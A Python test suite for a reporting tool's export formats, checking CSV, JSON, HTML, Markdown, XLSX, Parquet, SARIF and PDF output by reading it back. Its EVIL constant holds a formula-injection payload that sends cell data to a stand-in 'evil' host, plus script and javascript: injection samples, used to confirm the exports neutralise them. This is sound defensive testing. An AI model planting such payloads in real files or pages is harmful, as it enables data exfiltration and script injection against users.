"""Each format, read back by another library than the one that wrote it (C12)."""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
from collections.abc import Iterator
from datetime import UTC, timedelta
from decimal import Decimal
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest

from shared import parquet as availability
from shared.errors import Invalid
from shared.exports.formats import parquet, pdf, sarif, writer, xlsx
from shared.exports.kinds import Data, Format, ReportType
from shared.exports.report import Options
from tests.unit.exports.making import BAD, DUE, finding, made, report, runs

ROOT = Path(__file__).resolve().parents[3]
EVIL = '=HYPERLINK("http://evil/?x="&A1) | <script>alert(1)</script> [a](javascript:x) @all'


def test_csv_is_read_back(tmp_path: Path) -> None:
    text = made(Format.CSV, report(runs(20)), tmp_path).decode()
    rows = list(csv.DictReader(io.StringIO(text)))
    assert len(rows) == 20 and rows[0]["due_at"] == "2026-11-30T02:40:00Z"
    assert rows[9]["error"] == BAD and rows[0]["error"] == ""
    assert ',90.5,0.25,1,1,"","' in text and '"s0"' in text and text.count("\r\n") == 21


def test_csv_does_as_it_is_told(tmp_path: Path) -> None:
    options = Options(delimiter=";", bom=True, formula_safe=False)
    some = report(runs(10, error="=1+1"), columns=["error", "job_id"], options=options)
    text = made(Format.CSV, some, tmp_path).decode("utf-8")
    assert text.startswith('\ufeff"error";"job_id"\r\n')
    assert '\r\n"=1+1";"s2-' in text


def test_no_cell_of_a_csv_file_is_a_formula(tmp_path: Path) -> None:
    text = made(Format.CSV, report(runs(10, name=EVIL, error="  \t-2+3")), tmp_path).decode()
    rows = list(csv.DictReader(io.StringIO(text)))
    assert rows[0]["schedule_name"] == f"'{EVIL} 0" and rows[9]["error"] == "'  \t-2+3"


def test_json_and_ndjson_are_read_back(tmp_path: Path) -> None:
    said = json.loads(made(Format.JSON, report(runs(20)), tmp_path))
    assert said["row_count"] == len(said["rows"]) == 20
    assert said["since"] == "2026-11-23T06:00:00Z" and said["as_of"] == "2026-11-30T06:00:00Z"
    assert said["figures"]["failed"] == 2 and said["figures"]["success_percent"] == 90
    lines = made(Format.NDJSON, report(runs(20)), tmp_path).decode().splitlines()
    assert [json.loads(one) for one in lines] == said["rows"]
    assert said["rows"][0]["duration_seconds"] == 90.5 and said["rows"][0]["error"] is None


def test_a_summary_has_a_row_for_each_group(tmp_path: Path) -> None:
    said = json.loads(made(Format.JSON, report(runs(70), ReportType.SUMMARY), tmp_path))
    assert [one["schedule_id"] for one in said["rows"]] == [f"s{n}" for n in range(7)]
    assert {one["count"] for one in said["rows"]} == {10}
    assert sum(one["failed"] for one in said["rows"]) == 7 == said["figures"]["failed"]
    assert said["rows"][0]["duration_seconds_mean"] == 90.5


class Page(HTMLParser):
    """What a page has: tags and text."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.open: list[str] = []
        self.said: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        del attrs
        self.tags.append(tag)
        if tag != "meta":
            self.open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        assert self.open.pop() == tag

    def handle_data(self, data: str) -> None:
        self.said.append(data)


def test_html_says_what_strangers_wrote_and_runs_none_of_it(tmp_path: Path) -> None:
    some = report(runs(20, name=EVIL), title=EVIL)
    page = Page()
    content = made(Format.HTML, some, tmp_path).decode()
    page.feed(content)
    assert page.open == [] and set(page.tags).isdisjoint({"script", "img", "a", "link", "iframe"})
    assert f"{EVIL} 3" in page.said and EVIL in page.said
    assert "default-src 'none'" in content and "http" not in content.replace(
        "http://evil", ""
    ).replace("http-equiv", "")
    assert not list(tmp_path.iterdir())


def test_markdown_is_a_table_whatever_its_cells_say(tmp_path: Path) -> None:
    lines = made(Format.MARKDOWN, report(runs(20, name=EVIL)), tmp_path).decode().splitlines()
    table = [one for one in lines if "evil" in one and one.startswith("| s")]
    assert len(table) == 20
    for one in table:
        assert one.replace("\\|", "").count("|") == len(report([]).columns) + 1
        for bad in ("<script", "http://", "[a](", " @all", "javascript:"):
            assert bad not in one


def test_xlsx_is_read_back_and_holds_text_as_text(tmp_path: Path) -> None:
    from openpyxl import load_workbook

    content = made(Format.XLSX, report(runs(30, name=EVIL, error="00123")), tmp_path)
    book = load_workbook(io.BytesIO(content))
    assert book.sheetnames == ["Summary", "Runs"]
    rows = list(book["Runs"].iter_rows())
    assert len(rows) == 31 and [one.value for one in rows[0]][:2] == ["Job", "Schedule id"]
    name, due, error = rows[10][2], rows[10][6], rows[10][14]
    assert (name.value, name.data_type, name.hyperlink) == (f"{EVIL} 2", "s", None)
    assert (error.value, error.data_type) == ("00123", "s")
    assert due.value.replace(tzinfo=UTC) == DUE - timedelta(minutes=210)
    assert rows[10][9].value == 90.5
    assert ("Failed", 3) in [(one[0].value, one[1].value) for one in book["Summary"].iter_rows()]
    assert book.properties.created == DUE.replace(tzinfo=None)


def test_a_full_sheet_is_followed_by_another(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from openpyxl import load_workbook

    monkeypatch.setattr(xlsx, "ROWS", 11)
    book = load_workbook(io.BytesIO(made(Format.XLSX, report(runs(25)), tmp_path)))
    assert book.sheetnames == ["Summary", "Runs", "Runs 2", "Runs 3"]
    assert [book[one].max_row for one in book.sheetnames[1:]] == [11, 11, 6]
    first = [book[one].cell(2, 1).value for one in book.sheetnames[1:]]
    assert len(set(first)) == 3


def test_parquet_is_read_back_with_its_types(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from pyarrow import parquet as library

    monkeypatch.setattr(parquet, "GROUP", 8)
    content = made(Format.PARQUET, report(runs(20)), tmp_path)
    file = library.ParquetFile(io.BytesIO(content))
    assert file.metadata.num_row_groups == 3
    types = {one.name: str(one.type) for one in file.schema_arrow}
    assert types["due_at"] == "timestamp[us, tz=UTC]" and types["attempts"] == "int64"
    assert types["duration_seconds"] == "decimal128(38, 9)" and types["error"] == "string"
    rows = file.read().to_pylist()
    assert rows[9]["error"] == BAD and rows[0]["error"] is None
    assert rows[0]["due_at"] == DUE - timedelta(minutes=200)
    assert rows[0]["duration_seconds"] == Decimal("90.5")


def test_without_its_library_parquet_is_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(availability, "find_spec", lambda _: None)
    with pytest.raises(Invalid, match="format: format not installed: Parquet needs pyarrow"):
        writer(Format.PARQUET)
    writer(Format.CSV)


def findings(count: int, **other: object) -> Iterator[Any]:
    return (finding(n, **other) for n in range(1, count + 1))


def test_sarif_says_each_finding_once(tmp_path: Path) -> None:
    some = report([*findings(2), finding(3, column=4, path="ünï/%.py")], data=Data.FINDINGS)
    said = json.loads(made(Format.SARIF, some, tmp_path))
    (run,) = said["runs"]
    assert said["version"] == "2.1.0" and run["tool"]["driver"]["rules"] == [{"id": "bandit/B105"}]
    assert [one["partialFingerprints"]["belfry/v1"] for one in run["results"]] == [
        f"f{n:08}" for n in (1, 2, 3)
    ]
    place = run["results"][2]["locations"][0]["physicalLocation"]
    assert place["artifactLocation"]["uri"] == "%C3%BCn%C3%AF/%25.py"
    assert place["region"] == {"startLine": 3, "startColumn": 4}
    assert run["results"][0]["baselineState"] == "new"


@pytest.mark.parametrize(
    ("count", "results", "left"),
    [(0, [0], 0), (10, [10], 0), (11, [10, 1], 0), (30, [10, 10, 10], 0), (34, [10, 10, 10], 4)],
)
def test_sarif_keeps_the_limits_of_github(
    count: int, results: list[int], left: int, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(sarif, "RESULTS", 10)
    monkeypatch.setattr(sarif, "RUNS", 3)
    what = report(findings(count), data=Data.FINDINGS)
    said = json.loads(made(Format.SARIF, what, tmp_path))
    assert [len(one["results"]) for one in said["runs"]] == results
    assert len({one["automationDetails"]["id"] for one in said["runs"]}) == len(results)
    notes = said["runs"][-1]["invocations"][0]["toolExecutionNotifications"]
    assert [one["message"]["text"].split()[0] for one in notes] == [str(left)] * bool(left)
    assert (what.written, what.counted) == (count - left, count)


def test_a_pdf_has_what_one_hands_on(tmp_path: Path) -> None:
    from pypdf import PdfReader

    some = report(runs(90, name="Übersicht Ελλάδα Москва 你好"))
    document = PdfReader(io.BytesIO(made(Format.PDF, some, tmp_path)))
    pages = [one.extract_text() for one in document.pages]
    assert len(pages) > 2
    for said in ("Week of the shop", "Project 7", "2026-11-23 07:00", "Runs by day", "Failed"):
        assert said in pages[0]
    for number, text in enumerate(pages, start=1):
        assert f"Page {number} of {len(pages)}" in text and "Monday's report" in text
        assert "Schedule" in text or "Times are" in text
    assert "Übersicht Ελλάδα Москва" in pages[1] and "你" not in pages[1]
    assert "90 rows. Times are those of Europe/Berlin." in pages[-1]
    assert document.metadata is not None and document.metadata.creation_date == DUE


def test_a_long_report_on_paper_says_what_is_not_there(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from pypdf import PdfReader

    monkeypatch.setattr(pdf, "MOST", 12)
    what = report(runs(40))
    document = PdfReader(io.BytesIO(made(Format.PDF, what, tmp_path)))
    text = "\n".join(one.extract_text() for one in document.pages)
    assert "The first 12 of 40 rows" in text and (what.written, what.counted) == (12, 40)
    assert "36" in text  # of all 40, so many succeeded


def test_nothing_on_paper_is_cut_off(tmp_path: Path) -> None:
    """The picture of each page: its margins are white, and its chart has both colours."""
    import pypdfium2

    long = "W" * 300 + " " + "an error of many words " * 40
    some = report(runs(40, name="N" * 200, error=long), title="T" * 120)
    document = pypdfium2.PdfDocument(made(Format.PDF, some, tmp_path))
    for number, page in enumerate(document):
        picture = page.render(scale=1).to_pil().convert("RGB")
        top = 100 if number == 0 else 0
        right = picture.crop((picture.width - 38, top, picture.width, picture.height))
        left = picture.crop((0, top, 38, picture.height))
        assert {colour for _, colour in (right.getcolors() or [])} == {(255, 255, 255)}
        assert {colour for _, colour in (left.getcolors() or [])} == {(255, 255, 255)}
    first = document[0].render(scale=1).to_pil().convert("RGB")
    colours = {colour for count, colour in first.getcolors(100_000) if count > 50}
    assert {(31, 95, 168), (194, 65, 12)} <= colours


@pytest.mark.parametrize("format", [one for one in Format if one is not Format.SARIF])
@pytest.mark.parametrize("kind", ReportType)
def test_a_report_of_nothing_is_a_file_too(
    format: Format, kind: ReportType, tmp_path: Path
) -> None:
    what = report([], kind)
    assert (made(format, what, tmp_path) and what.written == 0) or format is Format.NDJSON


def test_the_same_report_is_the_same_bytes_everywhere() -> None:
    """In processes of other zones, languages and hash seeds."""

    def said(**env: str) -> str:
        command = [sys.executable, "-m", "tests.unit.exports.making", "60"]
        done = subprocess.run(
            command, cwd=ROOT, env=os.environ | env, capture_output=True, text=True, check=True
        )
        return done.stdout

    first = said(TZ="UTC", LC_ALL="C", PYTHONHASHSEED="1")
    again = said(TZ="Asia/Kolkata", LC_ALL="C.UTF-8", PYTHONHASHSEED="2")
    assert first == again and len(first.splitlines()) == len(Format)
